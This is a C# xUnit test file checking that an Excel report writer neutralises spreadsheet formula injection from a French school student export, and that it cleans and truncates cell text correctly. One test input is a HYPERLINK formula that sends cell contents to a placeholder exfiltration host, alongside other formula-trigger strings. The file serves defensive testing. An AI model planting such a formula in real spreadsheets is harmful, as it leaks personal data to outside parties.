using System.Globalization;
using ClosedXML.Excel;
using LocalInsights.Core.Aggregation;
using LocalInsights.Core.Model;
using LocalInsights.Reports.Excel;
using LocalInsights.Reports.Excel.Tables;
using Xunit;

namespace LocalInsights.Reports.Tests;

public sealed class SafeCellTests
{
    private const string EntCase = "excel-formula-injection-from-ent-export";

    private static readonly string[] TextColumns = ["Nom", "Prénom", "Classe", "Téléphone", "Commentaire"];

    [Fact]
    public void EntExport_TextCellsReadBackIdentical()
    {
        using var culture = FrenchCulture.Use();
        var records = TestData.ReadCsv(EntCase, "export-ent-eleves.csv");

        using var bytes = WriteEntExport(records);
        using var workbook = new XLWorkbook(bytes);

        var sheet = workbook.Worksheet("ENT");
        for (var index = 0; index < records.Count; index++)
        {
            for (var column = 0; column < TextColumns.Length; column++)
            {
                var cell = sheet.Cell(index + 2, column + 1);
                var expected = records[index][TextColumns[column]];
                Assert.Equal(expected, cell.GetString());
                Assert.False(cell.HasFormula, $"{cell.Address} is a formula");
                if (expected.Length == 0)
                {
                    Assert.True(cell.IsEmpty(), $"{cell.Address} should be empty");
                }
                else
                {
                    Assert.Equal(XLDataType.Text, cell.DataType);
                }
            }
        }

        Assert.Equal(0, RawSheet.CountFormulas(bytes, "ENT"));
    }

    [Theory]
    [InlineData("C3", "=1+1", true)]
    [InlineData("E2", "=HYPERLINK(\"http://exfil.example/?d=\"&A2;\"Voir le détail\")", true)]
    [InlineData("E3", "@SUM(1+1)", true)]
    [InlineData("E4", "-Absent le lundi", true)]
    [InlineData("E5", "\t=2+3", true)]
    [InlineData("E6", "'=déjà préfixé", false)]
    [InlineData("E7", "+ Très bon travail", true)]
    [InlineData("D2", "+33 6 00 00 00 01", true)]
    [InlineData("D3", "0600000002", false)]
    [InlineData("D4", "+33600000003", true)]
    public void EntExport_CellIsTextWithQuotePrefix(string address, string expected, bool quotePrefix)
    {
        using var culture = FrenchCulture.Use();
        var records = TestData.ReadCsv(EntCase, "export-ent-eleves.csv");

        using var bytes = WriteEntExport(records);
        using var workbook = new XLWorkbook(bytes);

        var cell = workbook.Worksheet("ENT").Cell(address);
        Assert.Equal(XLDataType.Text, cell.DataType);
        Assert.Equal(expected, cell.GetString());
        Assert.False(cell.HasFormula);
        Assert.Equal(quotePrefix, cell.Style.IncludeQuotePrefix);
    }

    [Fact]
    public void EntExport_ScoresAreNumbers()
    {
        using var culture = FrenchCulture.Use();
        var records = TestData.ReadCsv(EntCase, "export-ent-eleves.csv");

        using var bytes = WriteEntExport(records);
        using var workbook = new XLWorkbook(bytes);

        var sheet = workbook.Worksheet("ENT");
        double?[] expected = [12, -5, null, 7.5, 0, 15];
        for (var index = 0; index < expected.Length; index++)
        {
            var cell = sheet.Cell(index + 2, 6);
            if (expected[index] is { } score)
            {
                Assert.Equal(XLDataType.Number, cell.DataType);
                Assert.Equal(score, cell.GetDouble());
            }
            else
            {
                Assert.True(cell.IsEmpty(), $"{cell.Address} should be empty for '-'");
            }
        }
    }

    [Fact]
    public async Task Report_EntTextStaysText()
    {
        using var culture = FrenchCulture.Use();
        var records = TestData.ReadCsv(EntCase, "export-ent-eleves.csv");
        var builder = new FactSetBuilder();
        foreach (var (record, index) in records.Select((record, index) => (record, index)))
        {
            builder.WithDataQuality(new DataQualityFact
            {
                Source = record["Classe"],
                Kind = QualityIssueKind.RejectedRows,
                Subject = string.Create(CultureInfo.InvariantCulture, $"{index:00}"),
                File = record["Téléphone"],
                Detail = record["Commentaire"],
            });
        }

        using var report = await ReportFile.WriteAsync(builder.Build());

        var sheet = report.Sheet("Data quality");
        var expected = records.OrderBy(record => record["Classe"], StringComparer.Ordinal).ToList();
        for (var index = 0; index < expected.Count; index++)
        {
            var row = sheet.Row(index + 2);
            Assert.Equal(expected[index]["Classe"], row.Cell(1).GetString());
            Assert.Equal(expected[index]["Téléphone"], row.Cell(4).GetString());
            Assert.Equal(expected[index]["Commentaire"], row.Cell(6).GetString());
        }

        Assert.Equal(0, RawSheet.CountFormulas(report.Bytes, "Data quality"));
        Assert.DoesNotContain(sheet.CellsUsed(), cell => cell.HasFormula);
    }

    [Fact]
    public void SetText_RemovesInvalidXmlCharacters()
    {
        using var workbook = new XLWorkbook();
        var cell = workbook.AddWorksheet("Text").Cell("A1");

        var altered = SafeCell.SetText(cell, "a\u0001b\u0008c\uFFFEd\uD800e\U0001F4CAf\u000Bg");

        Assert.True(altered);
        Assert.Equal("abcde\U0001F4CAfg", cell.GetString());
    }

    [Fact]
    public void SetText_OnlyInvalidCharacters_LeavesCellEmpty()
    {
        using var workbook = new XLWorkbook();
        var cell = workbook.AddWorksheet("Text").Cell("A1");

        var altered = SafeCell.SetText(cell, "\u0001\u0002");

        Assert.True(altered);
        Assert.True(cell.IsEmpty());
    }

    [Fact]
    public void SetText_TruncatesAtExcelLimit()
    {
        using var workbook = new XLWorkbook();
        var cell = workbook.AddWorksheet("Text").Cell("A1");
        var text = new string('x', SafeCell.MaxTextLength - 14) + "\U0001F4CA" + new string('y', 100);

        var altered = SafeCell.SetText(cell, text);

        var written = cell.GetString();
        Assert.True(altered);
        Assert.Equal(SafeCell.MaxTextLength - 1, written.Length);
        Assert.EndsWith("x… [truncated]", written, StringComparison.Ordinal);
        Assert.DoesNotContain('\uD83D', written);
    }

    [Fact]
    public void SetText_KeepsTextAtExcelLimit()
    {
        using var workbook = new XLWorkbook();
        var cell = workbook.AddWorksheet("Text").Cell("A1");
        var text = new string('x', SafeCell.MaxTextLength);

        var altered = SafeCell.SetText(cell, text);

        Assert.False(altered);
        Assert.Equal(text, cell.GetString());
    }

    [Theory]
    [InlineData("0600000002")]
    [InlineData("1,5")]
    [InlineData("TRUE")]
    [InlineData("2024-10-07")]
    public void SetText_NeverConvertsToOtherType(string text)
    {
        using var bytes = new MemoryStream();
        using (var workbook = new XLWorkbook())
        {
            SafeCell.SetText(workbook.AddWorksheet("Text").Cell("A1"), text);
            workbook.SaveAs(bytes);
        }

        using var reopened = new XLWorkbook(bytes);

        var cell = reopened.Worksheet("Text").Cell("A1");
        Assert.Equal(XLDataType.Text, cell.DataType);
        Assert.Equal(text, cell.GetString());
    }

    [Fact]
    public void SetText_StoresCharacterCodeEscaped()
    {
        using var bytes = new MemoryStream();
        using (var workbook = new XLWorkbook())
        {
            SafeCell.SetText(workbook.AddWorksheet("Text").Cell("A1"), "_x0041_");
            workbook.SaveAs(bytes);
        }

        // Excel decodes _xHHHH_ in stored text, so the literal text must be stored with its underscore escaped.
        // ClosedXML 0.95.4 reads this stored form back as "A", so the stored XML is checked instead.
        Assert.Equal(["_x005F_x0041_"], RawSheet.SharedStrings(bytes));
    }

    private static MemoryStream WriteEntExport(IReadOnlyList<IReadOnlyDictionary<string, string>> records)
    {
        IReadOnlyList<ReportColumn<IReadOnlyDictionary<string, string>>> columns =
        [
            .. TextColumns.Select(name =>
                new ReportColumn<IReadOnlyDictionary<string, string>>(name, ColumnKind.Text, record => record[name])),
            new("Score", ColumnKind.Decimal, record => ParseScore(record["Score"])),
        ];
        var bytes = new MemoryStream();
        using (var workbook = new XLWorkbook())
        {
            var tables = new TableSheetWriter(new CellWriter(TimeZoneInfo.Utc));
            var sheet = workbook.AddWorksheet("ENT");
            tables.Write(sheet, "Ent", columns, records, new ColumnWidths(), 1, CancellationToken.None);
            workbook.SaveAs(bytes);
        }

        bytes.Position = 0;
        return bytes;
    }

    // The export writes decimals with a French comma and "-" for no score.
    private static decimal? ParseScore(string text) =>
        text == "-" ? null : decimal.Parse(text, NumberStyles.Number, CultureInfo.GetCultureInfo("fr-FR"));
}
